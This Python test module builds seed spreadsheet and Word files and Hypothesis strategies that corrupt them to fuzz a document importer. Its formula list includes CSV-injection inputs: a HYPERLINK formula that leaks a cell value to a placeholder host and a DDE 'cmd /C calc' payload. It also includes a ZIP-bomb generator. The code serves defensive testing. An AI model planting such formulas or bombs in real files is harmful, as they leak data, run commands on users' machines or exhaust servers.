"""Seed files built when the tests run (nothing binary is committed), and the strategies that
damage them: random bytes, truncation, flipped bytes, other encodings, odd cells and headers,
and a small ZIP bomb."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile

import docx
from hypothesis import strategies as st
from openpyxl import Workbook

# Kept low in the fuzz tests (see the `limits` fixture) so that "huge" stays cheap to build.
CELL_CHARS = 300
UNCOMPRESSED_BYTES = 2_000_000  # a python-docx document alone unpacks to ~1 MB
ENCODINGS = ("utf-8", "utf-8-sig", "cp1258", "cp1252", "utf-16", "utf-16-le", "utf-16-be")

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "=" + "(" * 200,
)

cell_text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="ăâđêôơưáàảãạệộ ", max_size=40),  # Vietnamese letters
    st.just(""),
    st.sampled_from(FORMULAS),
    st.integers(CELL_CHARS - 2, CELL_CHARS + 2).map(lambda n: "x" * n),  # around the limit
    st.sampled_from(["\x00", "\ufeff", "\u202e", "\r\n", '"', "\ud7ff", "1e309", "-0", "NaN"]),
)


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    text = out.getvalue()
    if encoding == "cp1258":
        text = "".join(_cp1258_spelling(c) for c in text)
    return text.encode(encoding, errors="replace")


def _cp1258_spelling(letter: str) -> str:
    """How Windows-1258 writes a Vietnamese letter: a base letter and a combining tone mark."""
    try:
        letter.encode("cp1258")
        return letter
    except UnicodeEncodeError:
        parts = unicodedata.normalize("NFD", letter)
        return unicodedata.normalize("NFC", parts[:-1]) + parts[-1:]


def xlsx_bytes(rows: list[list[str]], merge_header: bool = False) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        # openpyxl refuses control characters in cells; the damage strategies add them later
        sheet.append([_storable(value) for value in row])
    if merge_header and rows and len(rows[0]) > 1:
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=2)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def docx_bytes(rows: list[list[str]], heading: str = "UPR of Viet Nam (4th Cycle)") -> bytes:
    document = docx.Document()
    document.add_paragraph(heading)
    width = max((len(row) for row in rows), default=1) or 1
    table = document.add_table(rows=0, cols=width)
    for row in rows:
        cells = table.add_row().cells
        for target, value in zip(cells, row, strict=False):
            target.text = _storable(value)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _storable(value: str) -> str:
    return "".join(c for c in value if c in "\t\n\r" or (ord(c) >= 32 and c not in "\ufffe\uffff"))


def zip_bomb(package: bytes, unpacked: int = UNCOMPRESSED_BYTES * 3) -> bytes:
    """The package with one more member of zeros that unpacks past the limit (~1 KB packed)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            target.writestr(member, source.read(member.filename))
        target.writestr("xl/media/padding.bin", b"\0" * unpacked)
    return out.getvalue()


@st.composite
def damaged(draw, seed: bytes) -> bytes:
    """The seed cut short, with bytes flipped, or both; or random bytes of the same type."""
    kind = draw(st.sampled_from(["truncated", "flipped", "both", "random", "magic"]))
    if kind == "random":
        return draw(st.binary(max_size=2048))
    if kind == "magic":  # right signature, garbage after it
        return seed[:4] + draw(st.binary(max_size=512))
    data = bytearray(seed)
    if kind in ("truncated", "both"):
        data = data[: draw(st.integers(0, len(data)))]
    if kind in ("flipped", "both") and data:
        for _ in range(draw(st.integers(1, 8))):
            at = draw(st.integers(0, len(data) - 1))
            data[at] ^= draw(st.integers(1, 255))
    return bytes(data)


def tables(headers: list[str], max_rows: int = 4):
    """Header rows made of the importer's own headers (some dropped, duplicated or replaced
    by junk) and rows of odd cells, some shorter or longer than the header."""
    header = st.lists(
        st.one_of(st.sampled_from(headers), cell_text), min_size=0, max_size=len(headers) + 2
    )
    row = st.lists(cell_text, min_size=0, max_size=len(headers) + 2)
    return st.tuples(header, st.lists(row, max_size=max_rows)).map(lambda t: [t[0], *t[1]])
